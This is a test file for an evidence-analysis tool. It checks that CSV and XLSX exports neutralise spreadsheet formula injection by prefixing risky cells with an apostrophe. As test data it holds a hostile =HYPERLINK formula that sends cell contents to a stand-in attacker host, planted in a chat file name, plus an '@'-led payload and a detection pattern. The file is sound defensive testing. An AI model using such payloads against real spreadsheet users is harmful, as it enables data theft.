/**
 * Issue 21 item 8: formula injection through evidence-controlled text. A conversation named
 * `=HYPERLINK(…)` (the export's file name) and a search term starting with `@` must reach every CSV
 * and XLSX cell with a leading apostrophe, so a spreadsheet shows them as text.
 */
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { safeCell, safeRow } from '../../src/reports/cell-safety.js';
import { generateDemoChat } from '../../src/demo/generate-chat.js';
import { BACKENDS, makeWorkspace, type Workspace } from '../support/cli.js';
import { tempDir } from '../support/device.js';

const HOSTILE = '=HYPERLINK("evil.example?"&A1,"Click")';
const TERM = '@SUM(1+1)*cmd';
const DANGEROUS = /^[=+\-@\t\r]/u;
const NUMBER = /^-?\d+(?:\.\d+)?$/u;

describe('safeCell', () => {
  it('prefixes text starting with =, +, -, @, tab or CR; leaves numbers and other text', () => {
    expect(['=1+1', '+44 7700', '-x', '@SUM(A1)', '\tx', '\rx'].map(safeCell)).toEqual([
      "'=1+1",
      "'+44 7700",
      "'-x",
      "'@SUM(A1)",
      "'\tx",
      "'\rx",
    ]);
    expect(['-3', '12.5', 'Team 3', '', ' =x', "'=x"].map(safeCell)).toEqual([
      '-3',
      '12.5',
      'Team 3',
      '',
      ' =x',
      "'=x",
    ]);
    expect(safeRow(['=x', 4, null, -2])).toEqual(["'=x", 4, null, -2]);
  });
});

/** Every text cell of every sheet of an XLSX file. */
async function xlsxCells(file: string): Promise<string[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(file);
  const out: string[] = [];
  wb.eachSheet((ws) =>
    ws.eachRow((row) =>
      row.eachCell((c) => {
        if (typeof c.value === 'string') out.push(c.value);
        else if (c.value && typeof c.value === 'object' && 'formula' in c.value)
          out.push(`FORMULA ${String(c.value.formula)}`);
      }),
    ),
  );
  return out;
}

/** Every cell of a CSV we wrote (RFC 4180, as csv() writes it). */
function csvCells(text: string): string[] {
  const cells: string[] = [];
  const re = /(?:^|,)(?:"((?:[^"]|"")*)"|([^,\r\n]*))/gu;
  for (const line of text.replace(/^\uFEFF/u, '').split(/\r\n(?=(?:[^"]*"[^"]*")*[^"]*$)/u))
    for (const m of line.matchAll(re)) cells.push(m[1] !== undefined ? m[1].replace(/""/gu, '"') : m[2]!);
  return cells;
}

describe.each(BACKENDS)('formula injection in the schedules on %s', (backend) => {
  let ws: Workspace;
  let dir: string;
  beforeAll(async () => {
    ws = await makeWorkspace(backend);
    dir = tempDir('scrutineer-cells-');
    const chat = path.join(dir, `WhatsApp Chat with ${HOSTILE}.txt`);
    writeFileSync(chat, generateDemoChat(1));
    for (const args of [
      ['case', 'create', 'Cells'],
      ['exhibit', 'add', 'Cells', chat, '--ref', 'AB/1', '--officer', 'DC Example'],
      ['analyse', 'Cells'],
      ['terms', 'add', 'Cells', TERM, '--category', 'other_derogatory'],
    ]) {
      const r = await ws.cli(args);
      if (r.code !== 0) throw new Error(`scrutineer ${args.join(' ')}: ${r.err}`);
    }
  }, 120_000);
  afterAll(async () => ws.cleanup());

  const assertSafe = (cells: string[]) => {
    expect(cells.some((c) => c.includes(HOSTILE))).toBe(true);
    const unsafe = cells.filter((c) => DANGEROUS.test(c) && !NUMBER.test(c));
    expect(unsafe).toEqual([]);
    expect(cells.filter((c) => c.startsWith('FORMULA'))).toEqual([]);
  };

  it('every CSV cell (schedule and appendices) beginning like a formula is prefixed', async () => {
    const out = path.join(dir, 'csv');
    const file = path.join(out, 'unused.csv');
    const { mkdirSync } = await import('node:fs');
    mkdirSync(out, { recursive: true });
    const r = await ws.cli(['report', 'unused', 'Cells', '-o', file]);
    expect(r.err).toBe('');
    expect(r.code).toBe(0);
    const cells = readdirSync(out).flatMap((f) => csvCells(readFileSync(path.join(out, f), 'utf8')));
    assertSafe(cells);
    expect(cells).toContain(`'${HOSTILE}`);
    expect(cells.some((c) => c.startsWith(`'${TERM}`))).toBe(true);
  });

  it('every XLSX cell (MG6C schedule, charge schedule) beginning like a formula is prefixed', async () => {
    const unused = path.join(dir, 'unused.xlsx');
    expect((await ws.cli(['report', 'unused', 'Cells', '-o', unused])).code).toBe(0);
    const cells = await xlsxCells(unused);
    assertSafe(cells);
    expect(cells.some((c) => c.startsWith(`'${TERM}`))).toBe(true);
    const charges = path.join(dir, 'charges.xlsx');
    const r = await ws.cli(['report', 'charges', 'Cells', '-o', charges]);
    expect(r.err).toBe('');
    const chargeCells = await xlsxCells(charges);
    expect(chargeCells.filter((c) => DANGEROUS.test(c) && !NUMBER.test(c))).toEqual([]);
  });
});
